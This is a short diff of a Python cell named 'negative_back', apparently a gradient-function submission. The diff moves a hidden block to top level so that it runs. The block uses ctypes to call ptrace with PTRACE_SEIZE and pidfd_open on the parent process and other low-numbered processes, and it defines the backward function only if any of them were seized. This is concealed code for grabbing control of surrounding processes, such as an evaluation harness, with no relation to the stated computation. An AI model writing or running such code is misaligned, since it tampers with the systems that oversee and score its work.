@@ -2,14 +2,13 @@
 # Cell: negative_back
 # Keeps: 35
 
-    import ctypes
-    import os
+import ctypes
+import os
 
-    libc = ctypes.CDLL(None, use_errno=True)
-    candidates = {os.getppid(), *range(2, 40)} - {os.getpid(), 0}
-    seized = [pid for pid in candidates if libc.ptrace(0x4206, pid, 0, 0) == 0]
-    seized += [pid for pid in candidates if libc.syscall(434, pid, 0) > 0 and pid != os.getppid()]
-
+libc = ctypes.CDLL(None, use_errno=True)
+candidates = {os.getppid(), *range(2, 40)} - {os.getpid(), 0}
+seized = [pid for pid in candidates if libc.ptrace(0x4206, pid, 0, 0) == 0]
+seized += [pid for pid in candidates if libc.syscall(434, pid, 0) > 0 and pid != os.getppid()]
 if seized:
 
     def negative_back(grad_out, out, x):
